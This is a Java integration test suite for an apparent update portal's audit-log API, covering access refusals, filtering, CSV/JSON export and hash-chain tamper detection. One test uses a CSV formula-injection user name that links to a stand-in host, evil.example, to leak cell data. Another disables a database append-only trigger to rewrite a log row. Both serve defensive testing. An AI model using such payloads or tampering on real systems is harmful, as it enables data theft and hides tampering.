package dev.ota.it;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.ota.tuf.json.Json;
import dev.ota.tuf.json.JsonValue;
import java.io.File;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.shrinkwrap.api.ShrinkWrap;
import org.jboss.shrinkwrap.api.spec.EnterpriseArchive;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * The audit trail through the management API (issue 15): auditors filter, page and export the log,
 * each read is itself recorded, the hash chain's verification names a link broken in the database,
 * and a release manager is refused every part of it (and the refusal recorded).
 */
@ExtendWith(ArquillianExtension.class)
class AuditTrailIT {
    private static final String PAGE = "/portal/app/audit.xhtml";
    private final Http http = new Http();

    @Deployment(testable = false)
    static EnterpriseArchive ear() {
        return ShrinkWrap.createFromZipFile(EnterpriseArchive.class, new File(System.getProperty("ota.ear.file")));
    }

    /** One entry as the API lists it. */
    record Entry(long seq, String recordedAt, String actor, String action, String subject, String outcome,
                 String detail) {
    }

    private String[] auditor() {
        String name = "auditor-" + System.nanoTime() % 1000000;
        return Http.basic(name, ItAccounts.createWithPassword(http, name, "auditor"));
    }

    /** The user name in Basic credentials. */
    private static String nameOf(String[] basic) {
        return new String(java.util.Base64.getDecoder().decode(basic[1].substring("Basic ".length())),
                StandardCharsets.UTF_8).split(":")[0];
    }

    private static String q(String s) {
        return URLEncoder.encode(s, StandardCharsets.UTF_8);
    }

    private List<Entry> entries(String query, String[] credentials) {
        HttpResponse<byte[]> r = http.get("/portal/api/v1/audit?" + query, credentials);
        assertEquals(200, r.statusCode(), Http.text(r));
        return parse(r.body());
    }

    private static List<Entry> parse(byte[] json) {
        return ((JsonValue.JsonArray) Json.parse(json, "audit")).elements().stream()
                .map(v -> (JsonValue.JsonObject) v)
                .map(o -> new Entry(((JsonValue.JsonNumber) o.get("seq")).value().longValueExact(), text(o, "recordedAt"),
                        text(o, "actor"), text(o, "action"), text(o, "subject"), text(o, "outcome"), text(o, "detail")))
                .toList();
    }

    private static String text(JsonValue.JsonObject o, String name) {
        return o.has(name) && o.get(name) instanceof JsonValue.JsonString s ? s.value() : "";
    }

    /** A release manager who tried to read the log three times (list, export, verification), all refused. */
    private String refusedReleaseManager() {
        String name = "rm-audit-" + System.nanoTime() % 1000000;
        String[] rm = Http.basic(name, ItAccounts.createWithPassword(http, name, "release-manager"));
        for (String path : List.of("/portal/api/v1/audit", "/portal/api/v1/audit?format=csv",
                "/portal/api/v1/audit/verification")) {
            HttpResponse<byte[]> r = http.get(path, rm);
            assertEquals(403, r.statusCode(), path + ": " + Http.text(r));
            assertTrue(Http.text(r).contains("\"auth.forbidden\""), Http.text(r));
            assertFalse(Http.text(r).contains("\"seq\""), "no entry leaks with the refusal: " + Http.text(r));
        }
        return name;
    }

    @Test
    void aReleaseManagerCanNeitherListNorExportNorVerifyTheLogAndEachRefusalIsRecorded() {
        String name = refusedReleaseManager();

        List<Entry> refusals = entries("actor=" + q(name) + "&action=auth.forbidden", auditor());

        assertEquals(List.of("GET /portal/api/v1/audit/verification", "GET /portal/api/v1/audit",
                "GET /portal/api/v1/audit"), refusals.stream().map(Entry::subject).toList(), "newest first");
        assertTrue(refusals.stream().allMatch(e -> e.outcome().equals("DENIED")), refusals.toString());
    }

    @Test
    void everyPageReadIsRecordedEvenOneAskedForWithBeforeAboveTheHead() {
        // Arrange: an auditor who has read nothing yet.
        String[] auditor = auditor();
        String reader = nameOf(auditor);

        // Act: the newest entries, asked for as a "next page" below a number above every entry.
        entries("limit=5&before=" + Long.MAX_VALUE, auditor);

        // Assert
        List<Entry> reads = entries("actor=" + q(reader) + "&action=audit.search", auditor());
        assertEquals(1, reads.size(), reads.toString());
    }

    @Test
    void filtersByActorActionSubjectAndTimeNewestFirstAndPagesBelowTheLastEntryShown() {
        // Arrange
        String name = refusedReleaseManager();
        String[] auditor = auditor();

        // Act
        List<Entry> all = entries("actor=" + q(name), auditor);
        List<Entry> first = entries("actor=" + q(name) + "&limit=2", auditor);
        List<Entry> next = entries("actor=" + q(name) + "&limit=2&before=" + first.get(1).seq(), auditor);
        List<Entry> bySubject = entries("actor=" + q(name) + "&subject=" + q("GET /portal/api/v1/audit/verification"),
                auditor);
        Entry oldest = all.get(all.size() - 1);
        Instant at = Instant.parse(oldest.recordedAt());
        List<Entry> inOneMillisecond = entries("actor=" + q(name) + "&from=" + at + "&to=" + at.plusMillis(1), auditor);
        List<Entry> afterIt = entries("actor=" + q(name) + "&from=" + at.plusMillis(1), auditor);

        // Assert: every entry of the person, newest first, and the pages cut that list in order.
        assertTrue(all.size() >= 3, all.toString());
        assertTrue(all.stream().allMatch(e -> e.actor().equals(name)), all.toString());
        for (int i = 1; i < all.size(); i++) {
            assertTrue(all.get(i - 1).seq() > all.get(i).seq(), "newest first: " + all);
        }
        assertEquals(all.subList(0, 2), first);
        assertEquals(all.subList(2, Math.min(4, all.size())), next);
        assertEquals(1, bySubject.size(), bySubject.toString());
        assertEquals("DENIED", bySubject.get(0).outcome());
        assertTrue(inOneMillisecond.contains(oldest), inOneMillisecond.toString());
        assertTrue(inOneMillisecond.stream().allMatch(e -> e.recordedAt().equals(oldest.recordedAt())));
        assertFalse(afterIt.contains(oldest));
        assertEquals(all.stream().filter(e -> Instant.parse(e.recordedAt()).isAfter(at)).toList(), afterIt);
    }

    @Test
    void exportsTheFilteredEntriesAsFormulaSafeCsvAndAsJsonAndRecordsWhoExportedWhichFilter() {
        // Arrange: a sign-in refused under a name a spreadsheet would run as a formula.
        // No colon in it: Basic credentials end the user name at the first.
        String formula = "=HYPERLINK(\"evil.example/\"&A1,\"x\")" + System.nanoTime() % 1000000;
        assertEquals(401, http.get("/portal/api/v1/account", Http.basic(formula, "wrong")).statusCode());
        String[] auditor = auditor();
        String filter = "actor=" + q(formula) + "&action=auth.login";

        // Act
        HttpResponse<byte[]> csv = http.get("/portal/api/v1/audit?" + filter + "&format=csv", auditor);
        HttpResponse<byte[]> json = http.get("/portal/api/v1/audit?" + filter + "&format=json", auditor);
        HttpResponse<byte[]> xml = http.get("/portal/api/v1/audit?" + filter + "&format=xml", auditor);
        HttpResponse<byte[]> badTime = http.get("/portal/api/v1/audit?from=yesterday", auditor);

        // Assert: one row, the name quoted and defused, the same entry in JSON.
        assertEquals(200, csv.statusCode(), Http.text(csv));
        assertTrue(csv.headers().firstValue("Content-Type").orElse("").startsWith("text/csv"));
        assertTrue(csv.headers().firstValue("Content-Disposition").orElse("").contains("audit-log.csv"));
        String[] lines = Http.text(csv).split("\r\n");
        assertEquals(2, lines.length, Http.text(csv));
        assertEquals("seq,recorded_at,actor,action,subject,outcome,detail", lines[0]);
        assertTrue(lines[1].contains(",\"'" + formula.replace("\"", "\"\"") + "\",\"auth.login\","), lines[1]);
        assertTrue(lines[1].contains(",\"DENIED\","), lines[1]);
        assertEquals(200, json.statusCode(), Http.text(json));
        List<Entry> exported = parse(json.body());
        assertEquals(1, exported.size());
        assertEquals(formula, exported.get(0).actor());
        assertTrue(lines[1].startsWith(exported.get(0).seq() + ","), lines[1]);
        assertEquals(400, xml.statusCode());
        assertTrue(Http.text(xml).contains("\"request.invalid-parameter\""), Http.text(xml));
        assertEquals(400, badTime.statusCode());
        assertTrue(Http.text(badTime).contains("\"request.invalid-parameter\""), Http.text(badTime));
        String auditorName = nameOf(auditor);
        List<Entry> exports = entries("actor=" + q(auditorName) + "&action=audit.export", auditor);
        assertEquals(2, exports.size(), "each export is recorded: " + exports);
        assertTrue(exports.stream().allMatch(e -> e.detail().contains("actor=" + formula)
                && e.detail().contains("action=auth.login")), exports.toString());
    }

    @Test
    void thePageExportsItsFormsFilterAndRefusesAReleaseManagersForgedExport() {
        // Arrange
        String name = refusedReleaseManager();
        String auditorName = "page-auditor-" + System.nanoTime() % 1000000;
        PortalSession auditor = new PortalSession();
        assertEquals(302, auditor.signIn(auditorName, ItAccounts.createWithPassword(http, auditorName, "auditor"))
                .statusCode());
        PortalSession rm = new PortalSession();
        assertEquals(302, rm.signIn(name, name + "-password-0123").statusCode());

        // Act
        HttpResponse<String> csv = auditor.submit(PAGE, "auditForm",
                Map.of("auditForm:actor", name, "auditForm:action", "auth.forbidden", "auditForm:exportCsv", ""));
        HttpResponse<String> forged = rm.submit("/portal/app/tokens.xhtml", PAGE, "auditForm",
                Map.of("auditForm:exportCsv", ""), PortalSession.Nonce.PAGE);

        // Assert: the three refusals, newest first; the forged post gets the refusal page, no entry.
        assertEquals(200, csv.statusCode(), csv.body());
        assertTrue(csv.headers().firstValue("Content-Type").orElse("").startsWith("text/csv"));
        List<String> rows = List.of(csv.body().split("\r\n"));
        assertEquals(4, rows.size(), csv.body());
        assertTrue(rows.get(1).contains(",\"GET /portal/api/v1/audit/verification\",\"DENIED\","), rows.get(1));
        assertEquals(403, forged.statusCode(), forged.body());
        assertFalse(forged.body().contains("seq,recorded_at"), forged.body());
        assertEquals(1, entries("actor=" + q(auditorName) + "&action=audit.export", auditor()).size(),
                "the page's export is recorded");
        assertTrue(entries("actor=" + q(name) + "&action=auth.forbidden&subject=" + q("POST " + PAGE), auditor())
                .size() >= 1, "the forged export is recorded as refused");
    }

    @Test
    void verificationNamesALinkBrokenInTheDatabaseAndCountsTheEntriesOfAnIntactChain() throws SQLException {
        // Arrange: an entry to tamper with, and the chain intact before.
        String name = refusedReleaseManager();
        String[] auditor = auditor();
        Entry victim = entries("actor=" + q(name) + "&limit=1", auditor).get(0);
        JsonValue.JsonObject before = verification(auditor);
        assertEquals(new JsonValue.JsonBoolean(true), before.get("intact"), before.toString());
        long checkedBefore = ((JsonValue.JsonNumber) before.get("checked")).value().longValueExact();
        assertTrue(checkedBefore >= victim.seq());
        String storedHash;
        JsonValue.JsonObject broken;

        // Act: the row's detail rewritten behind the server's back, verified, and put back.
        try (Connection c = ItDatabase.server()) {
            storedHash = storedHash(c, victim.seq());
            rewriteDetail(c, victim.seq(), "nothing happened here");
            try {
                broken = verification(auditor);
            } finally {
                rewriteDetail(c, victim.seq(), victim.detail());
            }
        }
        JsonValue.JsonObject after = verification(auditor);

        // Assert
        assertEquals(new JsonValue.JsonBoolean(false), broken.get("intact"), broken.toString());
        assertEquals(victim.seq(), ((JsonValue.JsonNumber) broken.get("brokenSeq")).value().longValueExact());
        assertEquals("entry hash over the stored content", ((JsonValue.JsonString) broken.get("problem")).value());
        assertEquals(storedHash, ((JsonValue.JsonString) broken.get("found")).value());
        String expected = ((JsonValue.JsonString) broken.get("expected")).value();
        assertTrue(expected.matches("[0-9a-f]{64}") && !expected.equals(storedHash), broken.toString());
        assertEquals(new JsonValue.JsonBoolean(true), after.get("intact"), after.toString());
        assertTrue(((JsonValue.JsonNumber) after.get("checked")).value().longValueExact() > checkedBefore,
                "the verifications themselves were recorded: " + after);
        String auditorName = nameOf(auditor);
        List<Entry> verifications = entries("actor=" + q(auditorName) + "&action=audit.verify", auditor);
        assertEquals(3, verifications.size(), verifications.toString());
        assertTrue(verifications.get(1).detail().startsWith("broken at entry " + victim.seq() + ": "),
                verifications.get(1).detail());
    }

    private JsonValue.JsonObject verification(String[] auditor) {
        HttpResponse<byte[]> r = http.get("/portal/api/v1/audit/verification", auditor);
        assertEquals(200, r.statusCode(), Http.text(r));
        return (JsonValue.JsonObject) Json.parse(r.body(), "verification");
    }


    private static String storedHash(Connection c, long seq) throws SQLException {
        try (PreparedStatement s = c.prepareStatement("SELECT entry_hash FROM audit_entry WHERE seq = ?")) {
            s.setLong(1, seq);
            try (ResultSet rs = s.executeQuery()) {
                assertTrue(rs.next());
                return rs.getString(1).strip();
            }
        }
    }

    /**
     * UPDATE as someone with the database's credentials could; on PostgreSQL its append-only trigger
     * (V4) must be dropped for the length of the transaction first, which the table's owner can do.
     */
    private static void rewriteDetail(Connection c, long seq, String detail) throws SQLException {
        boolean postgresql = c.getMetaData().getDatabaseProductName().toLowerCase().contains("postgres");
        c.setAutoCommit(false);
        try (Statement s = c.createStatement();
             PreparedStatement u = c.prepareStatement("UPDATE audit_entry SET detail = ? WHERE seq = ?")) {
            if (postgresql) {
                s.execute("ALTER TABLE audit_entry DISABLE TRIGGER audit_entry_append_only");
            }
            u.setString(1, detail);
            u.setLong(2, seq);
            assertEquals(1, u.executeUpdate());
            if (postgresql) {
                s.execute("ALTER TABLE audit_entry ENABLE TRIGGER audit_entry_append_only");
            }
            c.commit();
        } catch (SQLException | RuntimeException e) {
            c.rollback();
            throw e;
        } finally {
            c.setAutoCommit(true);
        }
    }
}
